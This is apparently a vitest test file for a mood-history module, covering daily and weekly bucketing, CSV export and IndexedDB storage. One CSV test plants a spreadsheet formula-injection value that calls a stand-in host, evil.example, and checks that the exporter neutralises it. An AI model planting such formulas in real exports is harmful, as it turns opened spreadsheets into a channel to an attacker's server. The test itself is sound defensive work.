import Dexie from 'dexie';
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import { describe, expect, it } from 'vitest';
import { bucketHistory, historyEntryOf, historyToCsv, type HistoryEntry } from './history';
import { HistoryStore, type HistoryTables } from './history-store';
import type { MoodReading } from './types';
import { cameraReading } from '../../tests/support/readings';

const at = (y: number, m: number, d: number, h = 12) => new Date(y, m - 1, d, h).getTime();
const entry = (time: number, emotion: HistoryEntry['emotion']): HistoryEntry => ({
  at: time,
  emotion,
  probabilities: [0, 0, 0, emotion === 'happy' ? 1 : 0, emotion === 'sad' ? 1 : 0, 0, emotion === 'neutral' ? 1 : 0],
  faces: 1,
  source: 'camera',
});

describe('mood history', () => {
  it('counts readings per day, oldest first, with empty days kept and old ones left out', () => {
    const now = at(2026, 11, 27, 20);
    const entries = [
      entry(at(2026, 11, 27, 9), 'happy'),
      entry(at(2026, 11, 27, 19), 'sad'),
      entry(at(2026, 11, 25), 'happy'),
      entry(at(2026, 10, 1), 'sad'),
    ];
    const days = bucketHistory(entries, 'day', 7, now);
    expect(days).toHaveLength(7);
    expect(days.map((d) => d.total)).toEqual([0, 0, 0, 0, 1, 0, 2]);
    expect(days[6]!.counts).toMatchObject({ happy: 1, sad: 1 });
    expect(days[6]!.label).toBe('Fri 27 Nov');
  });

  it('counts readings per week starting on Monday', () => {
    const now = at(2026, 11, 27); // a Friday
    const weeks = bucketHistory(
      [entry(at(2026, 11, 23), 'happy'), entry(at(2026, 11, 22), 'sad'), entry(at(2026, 11, 16), 'sad')],
      'week',
      2,
      now,
    );
    expect(weeks.map((w) => w.label)).toEqual(['Week of 16 Nov', 'Week of 23 Nov']);
    expect(weeks.map((w) => w.total)).toEqual([2, 1]);
  });

  it('keeps a reading as numbers only, and exports it as CSV', () => {
    const reading: MoodReading = cameraReading({
      probabilities: [0.01, 0, 0.02, 0.9, 0.03, 0.01, 0.03],
      at: Date.UTC(2026, 10, 27, 12),
    });
    const kept = historyEntryOf(reading);
    expect(Object.keys(kept).sort()).toEqual(['at', 'emotion', 'faces', 'probabilities', 'source']);
    expect(historyToCsv([kept]).split('\n')[1]).toBe(
      '2026-11-27T12:00:00.000Z,happy,0.01,0,0.02,0.9,0.03,0.01,0.03,1,camera',
    );
    // A stored row is not trusted to be harmless in a spreadsheet: a formula-like cell is defused.
    const planted = { ...kept, source: '=WEBSERVICE("http://evil.example")' as never };
    expect(historyToCsv([planted]).split('\n')[1]).toMatch(/,"'=WEBSERVICE\(""http:\/\/evil\.example""\)"$/u);
  });

  it('stores readings in IndexedDB, skips corrupted rows, and clears', async () => {
    // The history's table as lib/browser/database.ts declares it (lib/browser/database.test.ts erases it with the rest).
    const db = new Dexie('history-test', { indexedDB: new IDBFactory(), IDBKeyRange }) as Dexie & HistoryTables;
    db.version(1).stores({ history: '++id, at' });
    const store = new HistoryStore(db);
    await store.add(entry(2, 'sad'));
    await store.add(entry(1, 'happy'));
    await db.history.add({ at: 3, emotion: 'bored' } as never);
    expect((await store.all()).map((e) => e.emotion)).toEqual(['happy', 'sad']);
    await expect(store.add({ at: 4 } as never)).rejects.toThrow();
    await store.clear();
    expect(await store.count()).toBe(0);
  });
});
